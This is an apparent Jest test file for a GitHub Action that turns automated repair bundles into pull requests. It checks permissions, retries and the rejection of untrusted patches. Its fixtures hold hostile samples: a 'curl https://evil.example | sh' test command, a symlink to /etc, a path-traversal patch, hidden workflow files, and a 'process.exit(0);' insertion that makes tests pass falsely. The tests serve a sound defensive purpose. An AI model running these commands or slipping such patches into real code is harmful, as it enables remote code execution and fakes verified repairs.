import { afterAll, describe, expect, test } from '@jest/globals';
import type { Fault } from '../github/loopback/state.ts';
import { type Bundle, searchedBundle } from './bundle.ts';
import { git, openPlace, type Place } from './job.ts';
import { labelled } from './payloads.ts';

// Most of a job's time is waiting, as GitHub asks of its clients: these tests wait side by side.
// Concurrent tests begin before any hook does.
const searched: Promise<Bundle> = searchedBundle();
afterAll(async () => (await searched)[Symbol.asyncDispose]());

async function publish(place: Place, inputs: Readonly<Record<string, string>> = {}) {
  const { folder } = await searched;
  const result = await place.run('issues', labelled(), {
    inputs: { mode: 'publish', bundle: folder, ...inputs },
  });
  expect(place.github.violations).toEqual([]);
  return result;
}

const lastComment = ({ state }: Place): string => state.comments.at(-1)?.body ?? '';
const pulls = ({ state }: Place) => [...state.pulls.values()];

test.concurrent('publishing a bundle runs no code of the repository and makes the pull request', async () => {
  await using place = await openPlace();
  const result = await publish(place);
  expect(result.outputs).toMatchObject({ conclusion: 'fixed', 'pr-number': '6' });
  expect(pulls(place)).toMatchObject([{ head: 'orps/issue-5', draft: false, labels: ['orps'] }]);
  expect(result.log).not.toContain('Running');
  expect(result.summary).toContain('#6');
});

describe('a second run for the same cause', () => {
  test.concurrent('updates the branch, the comment and the pull request', async () => {
    await using place = await openPlace();
    await publish(place);
    const tip = git(place.state.bare, 'rev-parse', 'orps/issue-5');
    const result = await publish(place);
    expect(result.outputs['pr-number']).toBe('6');
    expect(pulls(place)).toHaveLength(1);
    expect(place.state.comments).toHaveLength(1);
    expect(git(place.state.bare, 'rev-parse', 'orps/issue-5')).toBe(tip);
  });

  test.concurrent('at the same time cannot open a second pull request, and ends in one comment', async () => {
    await using place = await openPlace();
    const [one, two] = await Promise.all([publish(place), publish(place)]);
    expect([one.outputs['pr-number'], two.outputs['pr-number']]).toEqual(['6', '6']);
    expect(pulls(place)).toHaveLength(1);
    expect(place.state.comments).toHaveLength(1);
  });

  test.concurrent('that pushed since this one looked at the branch is no obstacle', async () => {
    await using place = await openPlace();
    await publish(place);
    const { bare, faults } = place.state;
    const theirs = git(bare, 'rev-parse', 'orps/issue-5');
    git(bare, 'branch', '-D', 'orps/issue-5');
    const meanwhile = () => void git(bare, 'branch', 'orps/issue-5', theirs);
    faults.push({ on: 'git', times: 1, meanwhile });
    const result = await publish(place);
    expect(result.outputs).toMatchObject({ 'pr-number': '6', 'branch-name': 'orps/issue-5' });
    expect(git(bare, 'rev-parse', 'orps/issue-5')).toBe(theirs);
    expect(pulls(place)).toHaveLength(1);
  });

  test.concurrent("leaves somebody's work on the branch alone", async () => {
    await using place = await openPlace();
    await publish(place);
    const clone = `${place.folder}/person`;
    git('.', 'clone', '--quiet', '--branch', 'orps/issue-5', place.state.bare, clone);
    git(clone, 'commit', '--quiet', '--allow-empty', '-m', 'mine');
    git(clone, 'push', '--quiet', 'origin', 'HEAD');
    const theirs = git(clone, 'rev-parse', 'HEAD');
    const result = await publish(place);
    expect(git(place.state.bare, 'rev-parse', 'orps/issue-5')).toBe(theirs);
    expect(result.outputs['branch-name']).toMatch(/^orps\/issue-5-[0-9a-f]{7}$/);
    expect(lastComment(place)).toContain('Somebody has pushed to `orps/issue-5`');
  });
});

test.concurrent('a result that is not fixed is a draft that closes nothing', async () => {
  await using place = await openPlace();
  const improved = await (await searched).altered('result.json', (value) => ({
    ...value,
    status: 'improved',
  }));
  await publish(place, { bundle: improved });
  expect(pulls(place)).toMatchObject([{ draft: true }]);
  expect(pulls(place)[0]?.title).toMatch(/^A step towards #5/);
  expect(pulls(place)[0]?.body).not.toMatch(/fixes #5/i);
  expect(git(place.state.bare, 'log', '-1', '--format=%B', 'orps/issue-5')).not.toMatch(/fix/i);
  expect(place.state.checkRuns).toMatchObject([{ conclusion: 'neutral' }]);
});

test.concurrent('what an exit status alone has judged is a draft that says so', async () => {
  await using place = await openPlace();
  const judged = await (await searched).altered('result.json', (value) => ({
    ...value,
    baseline: { ...(value.baseline as object), judgedBy: 'exit-status' },
  }));
  await publish(place, { bundle: judged });
  expect(pulls(place)).toMatchObject([{ draft: true }]);
  expect(pulls(place)[0]?.body).toContain('The command tells only its exit status');
});

test.concurrent('a lesser result never takes the place of a whole repair', async () => {
  await using place = await openPlace();
  await publish(place);
  const tip = git(place.state.bare, 'rev-parse', 'orps/issue-5');
  const lesser = await (await searched).altered('result.json', (value) => ({
    ...value,
    status: 'improved',
    best: { ...(value.best as object), patch: `${(value.best as { patch: string }).patch}\n` },
  }));
  const result = await publish(place, { bundle: lesser });
  expect(git(place.state.bare, 'rev-parse', 'orps/issue-5')).toBe(tip);
  expect(pulls(place)).toMatchObject([{ title: expect.stringMatching(/^Fix #5/) }]);
  expect(result.outputs['pr-number']).toBe('6');
  expect(lastComment(place)).toContain('holds a whole repair from an earlier run');
});

test.concurrent('a draft for an open pull request says so in its title', async () => {
  await using place = await openPlace();
  await publish(place);
  await publish(place, { draft: 'true' });
  expect(pulls(place)).toMatchObject([{ draft: false }]);
  expect(pulls(place)[0]?.title).toMatch(/^\[not verified\]/);
});

describe('when GitHub says no', () => {
  test.concurrent('pull requests are forbidden: the comment names the setting and links the branch', async () => {
    await using place = await openPlace();
    place.state.actionsMayOpenPulls = false;
    const result = await publish(place);
    expect(result.outputs).toMatchObject({ conclusion: 'fixed', 'branch-name': 'orps/issue-5' });
    expect(pulls(place)).toEqual([]);
    expect(lastComment(place)).toContain(
      'Allow GitHub Actions to create and approve pull requests',
    );
    expect(lastComment(place)).toContain('/compare/orps/issue-5?expand=1');
  });

  test.concurrent('a rule protects the branch: the comment says which prefix to change', async () => {
    await using place = await openPlace();
    place.state.protectedBranches.push('orps/.*');
    const result = await publish(place);
    expect(result.outputs).toMatchObject({ conclusion: 'fixed', 'pr-number': '' });
    expect(lastComment(place)).toContain('branch-prefix');
    expect(lastComment(place)).toContain('The patch is in the files of the run');
  });

  test.concurrent.each([
    ['contents', 'contents: write'],
    ['pull_requests', 'pull-requests: write'],
  ] as const)('the permission %s is missing: the comment names it', async (scope, words) => {
    await using place = await openPlace();
    place.state.grants[scope] = 'read';
    const result = await publish(place);
    expect(result.exitCode).toBe(0);
    expect(lastComment(place)).toContain(`\`${words}\``);
    expect(result.summary).toContain(`\`${words}\``);
  });

  test.concurrent('only the server sees a workflow in it: the comment says whose work that is', async () => {
    await using place = await openPlace();
    place.state.workflowsRefused = true;
    const result = await publish(place);
    expect(result.outputs).toMatchObject({ conclusion: 'fixed', 'branch-name': '' });
    expect(lastComment(place)).toContain('is for a person to make');
  });

  test.concurrent('comments are not permitted: the pull request is made, and the log names the permission', async () => {
    await using place = await openPlace();
    place.state.grants.issues = 'read';
    const result = await publish(place);
    expect(result.outputs['pr-number']).toBe('6');
    expect(result.log).toContain('`issues: write`');
  });

  test.concurrent('check runs are not permitted: everything else is there', async () => {
    await using place = await openPlace();
    place.state.grants.checks = 'none';
    const result = await publish(place);
    expect(result.outputs['pr-number']).toBe('6');
    expect(place.state.checkRuns).toEqual([]);
  });

  test.concurrent('the token has expired: the failure says so and how to get another', async () => {
    await using place = await openPlace();
    const result = await publish(place, { 'github-token': 'ghs_old' });
    expect(result.exitCode).toBe(1);
    expect(result.log).toContain('The token is wrong or has expired');
    expect(result.outputs.conclusion).toBe('error');
  });

  test.concurrent('drafts are not supported: the title says that it is not verified', async () => {
    await using place = await openPlace();
    place.state.draftsAllowed = false;
    await publish(place, { draft: 'true' });
    expect(pulls(place)).toMatchObject([{ draft: false }]);
    expect(pulls(place)[0]?.title).toMatch(/^\[not verified\]/);
  });
});

const lost = (on: string, cut: 'before' | 'after'): Fault => ({ on, cut, times: 1 });
const status = (on: string, code: number, message: string, times = 1): Fault => ({
  on,
  times,
  reply: { status: code, body: { message }, headers: { 'retry-after': '1' } },
});

describe('what passes is tried again', () => {
  const calls = [
    'repos/get-collaborator-permission-level',
    'issues/list-comments',
    'issues/create-comment',
    'issues/update-comment',
    'pulls/create',
    'issues/add-labels',
    'checks/create',
  ];
  test.concurrent.each(
    calls.flatMap((on) => [
      [`the connection is lost before ${on}`, lost(on, 'before')] as const,
      [`the connection is lost after ${on}`, lost(on, 'after')] as const,
    ]),
  )('%s', async (_, fault) => {
    await using place = await openPlace();
    place.state.faults.push(fault);
    const result = await publish(place);
    expect(result.outputs).toMatchObject({ conclusion: 'fixed', 'pr-number': '6' });
    expect(pulls(place)).toHaveLength(1);
    expect(place.state.comments).toHaveLength(1);
    expect(lastComment(place)).toContain('→ #6');
    expect(place.state.faults.every(({ times }) => times === 0)).toBe(true);
  });

  test.concurrent.each([
    status('issues/create-comment', 502, 'Server Error'),
    status('pulls/create', 503, 'Service Unavailable'),
    status('pulls/create', 403, 'You have exceeded a secondary rate limit. Please wait.'),
    status('issues/create-comment', 429, 'You have exceeded a secondary rate limit.'),
    lost('git', 'before'),
    { on: 'git', times: 1, reply: { status: 503, body: 'Service Unavailable' } },
  ])('%j', async (fault) => {
    await using place = await openPlace();
    place.state.faults.push({ ...fault });
    const result = await publish(place);
    expect(result.outputs).toMatchObject({ conclusion: 'fixed', 'pr-number': '6' });
    expect(place.state.comments).toHaveLength(1);
  });

  test.concurrent('and what does not pass is said, with the patch kept', async () => {
    await using place = await openPlace();
    place.state.faults.push(status('pulls/create', 500, 'Server Error', 99));
    const result = await publish(place);
    expect(result.outputs).toMatchObject({ conclusion: 'fixed', 'pr-number': '' });
    expect(lastComment(place)).toContain('GitHub has a problem');
    expect(result.outputs['patch-file']).toBeTruthy();
  });
});

describe('a bundle is not believed', () => {
  const altered = async (...how: Parameters<Bundle['altered']>) => ({
    bundle: await (await searched).altered(...how),
  });
  const bestOf = (value: Record<string, unknown>) => value.best as Record<string, unknown>;
  const withPatch = (patch: string) => (value: Record<string, unknown>) => ({
    ...value,
    best: { ...bestOf(value), patch },
  });
  const added = (path: string, mode: string, line: string) =>
    `diff --git a/${path} b/${path}\nnew file mode ${mode}\n--- /dev/null\n+++ b/${path}\n@@ -0,0 +1,1 @@\n+${line}\n`;

  /** As git writes a path that holds a line break. */
  const QUOTED = added('x.yml', '100644', 'x').replace(
    /([ab])\/x\.yml/g,
    '"$1/.github/workflows/a\\nb.yml"',
  );

  test.concurrent.each([
    [
      'a workflow',
      added('.github/workflows/x.yml', '100644', 'on: push'),
      '.github/workflows/x.yml',
    ],
    ['a workflow behind a line break', QUOTED, 'which no patch may'],
    ['a test', added('clamp2.test.js', '100644', '//'), 'clamp2.test.js'],
    ['a manifest', added('pkg/package.json', '100644', '{}'), 'pkg/package.json'],
    [
      'a link',
      `${added('etc', '120000', '/etc').trimEnd()}\n\\ No newline at end of file\n`,
      'a link',
    ],
  ])('its patch makes %s: nothing is pushed', async (_, patch, words) => {
    await using place = await openPlace();
    const result = await publish(place, await altered('result.json', withPatch(patch)));
    expect(result.outputs['pr-number']).toBe('');
    expect(git(place.state.bare, 'branch', '--list', 'orps/*')).toBe('');
    expect(lastComment(place)).toContain(words);
  });

  test.concurrent.each(['.circleci/config.yml', '.github/actions/x/action.yml', 'test/old.js'])(
    'it names a folder below which %s looks harmless: nothing is published',
    async (path) => {
      await using place = await openPlace();
      const { bundle } = await altered('result.json', (value) => ({
        ...value,
        task: { ...(value.task as object), directory: path.split('/')[0] },
        best: { ...(value.best as object), patch: added(path, '100644', 'x') },
      }));
      const result = await publish(place, { bundle });
      expect(result.outputs['pr-number']).toBe('');
      expect(lastComment(place)).toContain('which no patch may');
    },
  );

  test.concurrent('its patch leaves the repository: nothing is pushed', async () => {
    await using place = await openPlace();
    const patch = added('../../escape.js', '100644', '//');
    await publish(place, await altered('result.json', withPatch(patch)));
    expect(git(place.state.bare, 'branch', '--list', 'orps/*')).toBe('');
  });

  test.concurrent.each([
    ['another cause', 'task.json', (v: object) => ({ ...v, key: 'issue-6' }), 'issue-6'],
    [
      'another commit',
      'result.json',
      (v: object) => ({ ...v, base: { sha: '0'.repeat(40), dirty: false } }),
      '000000000000',
    ],
    ['no result', 'result.json', () => ({ hello: 1 }), 'is not what a search leaves'],
  ])('it is for %s: the run fails and says so', async (_, name, change, words) => {
    await using place = await openPlace();
    const result = await publish(place, await altered(name, change));
    expect(result.exitCode).toBe(1);
    expect(result.log).toContain(words);
    expect(pulls(place)).toEqual([]);
  });
});

test.concurrent('a patch to a file whose own tests judged it is a draft that says so', async () => {
  await using place = await openPlace();
  const judged = await (await searched).altered('result.json', (value) => ({
    ...value,
    baseline: {
      ...(value.baseline as object),
      failToPass: [{ name: 'doctest clamp', file: 'clamp.js' }],
    },
  }));
  await publish(place, { bundle: judged });
  expect(pulls(place)).toMatchObject([{ draft: true }]);
  expect(pulls(place)[0]?.body).toContain('which holds tests that judged it');
});

test.concurrent('a patch that reaches the judge is a draft that says so, everywhere', async () => {
  await using place = await openPlace();
  const judged = await (await searched).altered('result.json', (value) => {
    const best = value.best as { patch: string };
    const patch = best.patch
      .replace(/^\+(?!\+)/m, '+process.exit(0);\n+')
      .replace('-1,1 +1,1', '-1,1 +1,2');
    return { ...value, best: { ...best, patch } };
  });
  await publish(place, { bundle: judged });
  expect(pulls(place)).toMatchObject([{ draft: true }]);
  expect(place.state.checkRuns).toMatchObject([{ conclusion: 'neutral' }]);
  for (const text of [pulls(place)[0]?.body, place.state.comments.at(-1)?.body]) {
    expect(text).toContain('⚠️ The patch adds `process.exit(0);`');
  }
});

test.concurrent('commands of a bundle are not given to people to copy', async () => {
  await using place = await openPlace();
  const judged = await (await searched).altered('result.json', (value) => ({
    ...value,
    task: { ...(value.task as object), testCommand: 'curl https://evil.example | sh' },
  }));
  await publish(place, { bundle: judged });
  const body = pulls(place)[0]?.body ?? '';
  const scripts = [...body.matchAll(/```sh\n([\s\S]*?)```/g)].join();
  expect(scripts).toContain('git fetch origin');
  expect(scripts).not.toContain('curl');
});
